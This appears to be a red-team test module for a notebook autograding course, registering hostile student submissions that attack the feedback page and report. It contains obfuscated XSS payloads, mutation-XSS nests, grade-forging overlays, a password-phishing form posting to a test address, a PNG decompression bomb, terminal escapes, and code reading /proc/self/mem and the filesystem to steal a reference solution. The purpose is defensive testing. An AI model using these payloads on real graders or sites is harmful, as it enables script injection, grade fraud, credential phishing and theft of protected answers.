"""Hostile submissions that aim at whoever opens a page: the student's feedback, the formgrader, the report.

What they would run sets the title to MARKER, what they would load lies on ELSEWHERE, and what they would forge says FORGED.
"""

# ruff: noqa: E501

from __future__ import annotations

from tests.units.transformer_lm.redteam import in_words

from .submissions import ENGINE, LEAK, MARKER, ORDER, SUBMISSIONS, attack

ELSEWHERE = "192.0.2.1"
FORGED = "3 of 3 points"

before = len(SUBMISSIONS)


def html(name: str, what: str, *outputs: str) -> None:
    """A submission whose last cells show HTML."""
    attack(f"page_{name}", what, last=[f"from IPython.display import HTML, display\ndisplay(HTML({output!r}))" for output in outputs])


def shows(name: str, what: str, *cells: str) -> None:
    attack(f"page_{name}", what, last=cells)


# --- over the page

html(
    "overlay",
    "fixed overlays that say full marks: by a style attribute, by a style element, with classes of the page's own style sheets",
    f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">{FORGED}</div>',
    f"<style>.mine {{position:fixed; inset:0; background:#fff; z-index:99999}}</style><div class=mine>{FORGED}</div>",
    f'<div class="modal-backdrop in" style="opacity:1"></div><div class="navbar-fixed-top panel">{FORGED}</div>',
    f'<table><tr><td background="http://{ELSEWHERE}/t.png" bgcolor=white width=99999 height=99999 align=center>{FORGED}</table>',
    "<style>div.nbgrader_cell{display:none} @import url('http://192.0.2.1/x.css'); body{background:url(//192.0.2.1/b.png)}</style>rest",
)
html(
    "forged_report",
    "the judge's own report, copied with its colours, and a grade cell's heading, with ids and names of the page's own",
    f'<div style="border-left:6px solid #1a7f37;padding:6px 12px;font-family:sans-serif"><div style="font-weight:600;color:#1a7f37">✓ div: {FORGED}</div></div>',
    f'<div class="panel panel-primary nbgrader_cell"><div class="panel-heading"><span class="nbgrader-label">Grade cell: <code>check_div</code></span><span class="pull-right">{FORGED}</span></div></div>',
    '<a name="check_div">here</a><input id="check_div" class="score" value="3"><div id="toc">toc</div><form id="statusmessage" name="nbgrader"><b id="top">x</b></form>',
)
# --- elsewhere
html(
    "external",
    "pictures, sounds, frames, fonts and manifests from elsewhere, in every attribute that loads",
    f'<img src="http://{ELSEWHERE}/a.png"><img src="//{ELSEWHERE}/b.png"><img srcset="http://{ELSEWHERE}/c.png 1x" src=x><input type=image src="http://{ELSEWHERE}/d.png">',
    f'<picture><source srcset="//{ELSEWHERE}/e.png"><img src="data:image/png;base64,xx"></picture><video poster="http://{ELSEWHERE}/f.png" src="http://{ELSEWHERE}/f.mp4" autoplay></video><audio src="http://{ELSEWHERE}/g.mp3" autoplay></audio>',
    f'<iframe src="http://{ELSEWHERE}/h"></iframe><object data="http://{ELSEWHERE}/i"></object><embed src="http://{ELSEWHERE}/j"><portal src="http://{ELSEWHERE}/k"></portal>',
    f'<body background="http://{ELSEWHERE}/l.png"><table background="http://{ELSEWHERE}/m.png"><tr><td>x</table><img src="file:///etc/passwd"><img src="\\\\{ELSEWHERE}\\n.png">',
)
html(
    "head",
    "a base, a refresh, style sheets and preloads, which take hold of the whole page from inside its body",
    f'<base href="http://{ELSEWHERE}/"><base target="_blank">',
    f'<meta http-equiv="refresh" content="0; url=http://{ELSEWHERE}/"><meta http-equiv="Content-Security-Policy" content="default-src *">',
    f'<link rel=stylesheet href="http://{ELSEWHERE}/x.css"><link rel=preload as=image href="http://{ELSEWHERE}/p.png"><link rel=dns-prefetch href="//{ELSEWHERE}">',
    f"</div></div></main></body></html><title>{MARKER}</title><h1>{FORGED}</h1>",
)
# --- links that run something
html(
    "javascript",
    "javascript: with entities, tabs, newlines, control characters, other cases and other schemes",
    *(
        f"<a href=\"{address}(document.title='{MARKER}')\">look</a>"
        for address in (
            "javascript:void",
            "java&#115;cript:void",
            "&#x6A;avascript&colon;void",
            "java&Tab;script:void",
            "java\nscript:void",
            "\x01 JaVaScRiPt:void",
            "vbscript:void",
            "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
            "//192.0.2.1/x",
        )
    ),
    f'<a href="http://{ELSEWHERE}" ping="http://{ELSEWHERE}/ping" target=_top>x</a><map name=m><area shape=rect coords=0,0,999,999 href="java&#115;cript:1"></map><img usemap="#m" src="data:image/png;base64,xx">',
)
html(
    "events",
    "handlers on everything that fires by itself: errors, focus, animations, toggles",
    f"<img src=x onerror=\"document.title='{MARKER}'\"><img/src=x/onerror=document.title='{MARKER}'>",
    f"<input autofocus onfocus=\"document.title='{MARKER}'\"><b tabindex=0 autofocus onfocus=document.title='{MARKER}'>x</b>",
    f"<details open ontoggle=\"document.title='{MARKER}'\">x</details><marquee onstart=document.title='{MARKER}'>x</marquee>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"document.title='{MARKER}'\">x</p><body onload=document.title='{MARKER}'>",
)
html(
    "forms",
    "forms that send what the reader types, and buttons that stand for the page's own",
    f'<form action="http://{ELSEWHERE}/" method=post><input name=password type=password autofocus><button>Log in again</button></form>',
    f'<button formaction="java&#115;cript:document.title=\'{MARKER}\'">Full credit</button><isindex action="//{ELSEWHERE}"><textarea>x</textarea><select><option>1</select>',
)
# --- other languages in HTML
html(
    "svg",
    "SVG with scripts, links, foreign objects and animations, in the page and as a data: picture",
    f"<svg onload=\"document.title='{MARKER}'\"><script>document.title='{MARKER}'</script><a xlink:href=\"java&#115;cript:1\"><text y=20>x</text></a></svg>",
    f'<svg><foreignObject><img src=x onerror="document.title=\'{MARKER}\'"></foreignObject><use href="http://{ELSEWHERE}/x.svg#x"/><image href="http://{ELSEWHERE}/y.png"/></svg>',
    "<svg><a><animate attributeName=href values=javascript:1 /><text>x</text></a><set attributeName=onmouseover to=1 /></svg>",
    f'<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22document.title=1%22><image href=%22http://{ELSEWHERE}/z.png%22/></svg>">',
)
html(
    "mathml",
    "MathML with links and actions, and text that the page's formula engine would set",
    '<math><maction actiontype="statusline" xlink:href="java&#115;cript:1">x<mtext>y</mtext></maction></math>',
    f"<math href=\"java&#115;cript:document.title='{MARKER}'\"><mi>click</mi><annotation-xml encoding=\"text/html\"><img src=x onerror=document.title='{MARKER}'></annotation-xml></math>",
    rf"$\href{{javascript:document.title='{MARKER}'}}{{x}}$ \(\style{{position:fixed;top:0;left:0;font-size:99px;background:white}}{{\text{{{FORGED}}}}}\) \[\cssId{{toc}}{{\class{{score}}{{x}}}}\] $$\require{{html}}\unicode{{x41}}\href{{http://{ELSEWHERE}}}{{y}}$$",
    rf"<script type='math/tex'>\href{{http://{ELSEWHERE}}}{{x}}</script>\begin{{equation}}\href{{http://{ELSEWHERE}}}{{x}}\end{{equation}}",
)
html(
    "nests",
    "HTML that is harmless when it is first read and something else when it is read again",
    f"<noscript><p title=\"</noscript><img src=x onerror=document.title='{MARKER}'>\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror=document.title='{MARKER}'>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=document.title='{MARKER}'&gt;\">",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=document.title='{MARKER}' src>\">",
    f"<template><img src=x onerror=document.title='{MARKER}'></template><xmp><b title='</xmp><img src=x onerror=document.title=1>'></xmp><textarea><b title='</textarea><img src=x onerror=1>'>",
    f"<!--><img src=x onerror=document.title='{MARKER}'>--><![CDATA[<img src=x onerror=1>]]><?php <img src=x onerror=1> ?><a title='-->'><plaintext>",
    f"<select><iframe><select><img src=x onerror=document.title='{MARKER}'></select></iframe></select><scr<script>ipt>document.title='{MARKER}'</scr</script>ipt>",
)
html(
    "deep",
    "twenty thousand open elements, an attribute of a hundred kilobytes, and a table of a million columns",
    "<div>" * 20_000 + FORGED,
    f"<b title='{'x' * 100_000}'>{FORGED}</b>",
    f"<table><tr><td colspan=999999 rowspan=999999>{FORGED}</td></tr></table>",
)
shows(
    "giant_table",
    "a table of twenty thousand cells",
    "from IPython.display import HTML\nHTML('<table>' + '<tr>' + '<td>3 of 3</td>' * 20 + '</tr>' * 1000 + '</table>')",
)

# --- other kinds of output

shows(
    "kinds",
    "outputs under every kind that a page may run: JavaScript, LaTeX, Markdown, SVG, widgets, pictures that are none",
    f"""
from IPython.display import display
for kind, text in {{
    "application/javascript": "document.title = '{MARKER}'",
    "text/latex": r"$\\href{{http://{ELSEWHERE}}}{{x}}$<img src=http://{ELSEWHERE}/a.png>",
    "text/markdown": "<script>document.title='{MARKER}'</script>[x](javascript:1)![x](http://{ELSEWHERE}/b.png)",
    "image/svg+xml": "<svg onload='document.title=1'><image href='http://{ELSEWHERE}/c.png'/></svg>",
    "application/vnd.jupyter.widget-view+json": "{{}}",
    "text/vnd.mermaid": "graph TD; A-->B; click A 'javascript:1'",
    "image/png": "x'><script>document.title='{MARKER}'</script>",
    "image/jpeg": "PHN2ZyBvbmxvYWQ9MT4=",
}}.items():
    display({{kind: text}}, raw=True)
""",
    """
from IPython.display import display
import base64, struct, zlib
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
bomb = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 1, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\\0" * 10**6)) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(bomb).decode(), "text/plain": "a picture of sixty thousand by sixty thousand"}, raw=True)
""",
)
shows(
    "terminal",
    "HTML, formulas and terminal escapes in what is printed, raised and returned, and a hundred thousand changes of colour",
    f'print(\'</pre></div><script>document.title="{MARKER}"</script>\\x1b]0;{MARKER}\\x07\\x1b[2J\\x1b[38;2;1;2;3m{FORGED}\\x1b["><b>1m\\x1b[31;1m red \\x1b[0m\\x9b31m \\u202edesrever\')',
    f"raise ValueError('</pre><img src=x onerror=document.title=\"{MARKER}\"> \\x1b[8;5;0m $\\\\href{{http://{ELSEWHERE}}}{{x}}$')",
    "class Shown:\n    def __repr__(self):\n        return '</pre><iframe src=http://192.0.2.1></iframe>\\x1b[31mred'\nShown()",
    "print('\\x1b[1mx\\x1b[0m' * 100_000)",
    f"# </pre><script>document.title='{MARKER}'</script> $\\href{{http://{ELSEWHERE}}}{{x}}$\n%%html\n<script>document.title='{MARKER}'</script>",
)
attack(
    "page_judged",
    "formulas and HTML in what the judge's report repeats: an exception's message, what was printed, a variable's name",
    bodies={
        "sqrt": (rf"raise ValueError(r'$\href{{http://{ELSEWHERE}}}{{x}}$ <img src=x onerror=document.title=1>')", "return [output_grad]"),
        "relu": (
            rf"print(r'$\href{{http://{ELSEWHERE}}}{{{FORGED}}}$ <b onclick=1>'); return inputs[0]",
            rf"return [ad.Variable(r'$\href{{http://{ELSEWHERE}}}{{x}}$<script>document.title=1</script>')]",
        ),
    },
)

# --- in words

in_words(
    "page_links",
    "an answer in words with links, pictures and HTML in all of Markdown's ways",
    f"[a](java&#115;cript:document.title='{MARKER}') [b](java\tscript:1) [c][d] <javascript:alert(1)> <http://{ELSEWHERE}/> http://{ELSEWHERE}/auto ![e](http://{ELSEWHERE}/e.png) ![f][d]\n\n[d]: javascript:alert(1)\n\n<!-- a comment --> <img src=x onerror=document.title='{MARKER}'>\n\n<div style='position:fixed;top:0'>{FORGED}</div>\n\n<script>\n\ndocument.title='{MARKER}'\n</script>",
)
in_words(
    "page_formulas",
    "an answer in words whose formulas link, style, load extensions and define commands",
    rf"$\href{{http://{ELSEWHERE}}}{{x}}$ and $\\href{{http://{ELSEWHERE}}}{{x}}$ \\(\\href{{http://{ELSEWHERE}}}{{y}}\\) $$\unicode{{x41}}\require{{html}}\style{{position:fixed}}{{\text{{{FORGED}}}}}$$"
    + "\n\n"
    + rf"\begin{{equation}}\def\h{{\href}}\h{{http://{ELSEWHERE}}}{{z}}\end{{equation}}"
    + "\n\n$$\n"
    + rf"</p><script>document.title='{MARKER}'</script>\cssId{{toc}}{{x}}"
    + "\n$$\n\n`$\\href{http://192.0.2.1}{c}$`",
)
in_words(
    "page_headings",
    "an answer in words that looks like the judge's report, with code fences that hold HTML and a quotation that ends itself",
    f"# ✓ kv_cache: {FORGED}\n\nGrade cell: check_kv_cache\n=====\n\n> quoted\n\n</blockquote></div></div><h1>{FORGED}</h1>\n\n```html\n</pre><script>document.title='{MARKER}'</script>\n```\n\n```{{=html}}\n<img src=x onerror=1>\n```\n\n    <iframe src=//{ELSEWHERE}></iframe>\n\n| a | b |\n|--|--|\n| <b onclick=1>x</b> | {FORGED} |\n\n- [ ] a list\n- `</code><script>1</script>`\n\n&lt;script&gt;1&lt;/script&gt; &#60;img src=x onerror=1&#62;",
)
in_words(
    "page_nested",
    "an answer in words of nested lists, quotations and brackets",
    "> " * 400
    + "deep\n\n"
    + "\n".join("  " * n + "- x" for n in range(300))
    + "\n\n"
    + "[" * 5000
    + "\n\n"
    + "*" * 5000
    + "a"
    + "_" * 5000
    + "\n\n"
    + "$" * 4999,
)

# --- the reference of the unit before

attack(
    "page_reference",
    "prints the text of the earlier unit's reference by every way that Python has to a text",
    ORDER,
    unit=ENGINE,
    last=f"""
        import gc, inspect, linecache, os
        from pathlib import Path

        import autodiff_lib as ad
        from autodiff_lib import course

        wanted = "class Mat" + "MulOp"
        loaded = course.load("01_operators")
        for thing in (ad.matmul, type(ad.matmul), type(ad.matmul).compute, loaded, loaded.evaluate):
            try:
                print("{LEAK} 1 ", inspect.getsource(thing))
            except Exception:
                print("{LEAK} 1 ", None if thing is loaded else thing.__doc__)
        print("{LEAK} 2 ", [name for name in linecache.cache if "01_operators" in str(name)])
        print("{LEAK} 3 ", [cell for cell in In if wanted in cell])
        print("{LEAK} 4 ", [path for folder in ("/units", "/home", "/tmp", "/dev/shm", "/run", os.path.dirname(ad.__file__))
            for path in Path(folder).rglob("*") if path.suffix in (".ipynb", ".py") and wanted in path.read_text(errors="ignore")])
        gc.unfreeze()
        texts = {{id(thing): thing for held in gc.get_objects() if type(held) in (dict, list, tuple)
            for thing in gc.get_referents(held) if type(thing) in (str, bytes) and len(thing) > 200}}
        print("{LEAK} 5 ", [thing[:400] for thing in texts.values() if (wanted if type(thing) is str else wanted.encode()) in thing])
        print("looked everywhere")
    """,
)
attack(
    "page_memory",
    "reads its own memory from end to end, for the text of the earlier unit's reference",
    ORDER,
    unit=ENGINE,
    last=f"""
        import ctypes

        course.load("01_operators")
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # a process may be read, by itself too, when it says so
        wanted = b"atMulOp(ad."
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                where, rights, _, _, _, *name = line.split()
                start, end = (int(part, 16) for part in where.split("-"))
                if rights.startswith("rw") and name in ([], ["[heap]"], ["[stack]"]) and end - start < 2**27:
                    try:
                        memory.seek(start)
                        content = memory.read(end - start)
                    except OSError:
                        continue
                    place = content.find(wanted)
                    while place >= 0:
                        if content[place - 7 : place][::-1] == b"M ssalc":
                            print("{LEAK} 1 ", content[place - 7 :][:300])
                        place = content.find(wanted, place + 1)
        print("looked everywhere")
    """,
)

PAGES = SUBMISSIONS[before:]
"""Those of this module."""
